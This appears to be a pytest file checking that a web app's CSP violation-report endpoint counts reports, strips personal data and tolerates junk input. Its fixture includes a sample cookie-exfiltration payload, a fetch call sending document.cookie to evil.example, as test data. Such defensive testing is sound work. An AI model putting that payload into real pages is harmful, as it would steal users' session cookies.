"""CSP violation reports: counted without personal data; junk is survived."""

import json

import pytest
import requests

from tests.support.sandbox import TIMEOUT


def test_csp_reports_are_counted_without_personal_data(app_server):
    report = {"csp-report": {
        "document-uri": f"{app_server.url}/pay?customer_token=secret&email=jody@example.com",
        "violated-directive": "script-src-elem", "effective-directive": "script-src-elem",
        "blocked-uri": "https://evil.example/steal.js?card=4970107111111119",
        "script-sample": "fetch('https://evil.example/?'+document.cookie)",
        "source-file": "https://evil.example/x.js", "original-policy": "default-src 'none'"}}
    r = requests.post(app_server.url + "/csp-report", data=json.dumps(report), timeout=TIMEOUT,
                      headers={"Content-Type": "application/csp-report"})
    assert r.status_code == 204
    reporting_api = [{"type": "csp-violation", "body": {"documentURL": f"{app_server.url}/frame?parent=x",
                                                        "effectiveDirective": "connect-src",
                                                        "blockedURL": "http://attacker.example:9/steal"}}]
    requests.post(app_server.url + "/csp-report", json=reporting_api, timeout=TIMEOUT,
                  headers={"Content-Type": "application/reports+json"})
    summary = requests.get(app_server.url + "/csp-report", timeout=TIMEOUT)
    text = summary.text
    assert summary.json()["total"] >= 2
    kept = {(r["directive"], r["blocked"], r["document"]) for r in summary.json()["reports"]}
    assert ("script-src-elem", "https://evil.example", "/pay") in kept
    assert ("connect-src", "http://attacker.example:9", "/frame") in kept
    for private in ("secret", "jody", "cookie", "4970", "steal.js", "customer_token"):
        assert private not in text


@pytest.mark.parametrize("body", [b"", b"not json", b"[1, 2, 3]", b'{"csp-report": "x"}', b"{" * 1000,
                                  b'{"csp-report": {"blocked-uri": "http://[", "document-uri": "http://["}}'])
def test_csp_report_endpoint_survives_junk(app_server, body):
    assert requests.post(app_server.url + "/csp-report", data=body, timeout=TIMEOUT).status_code == 204
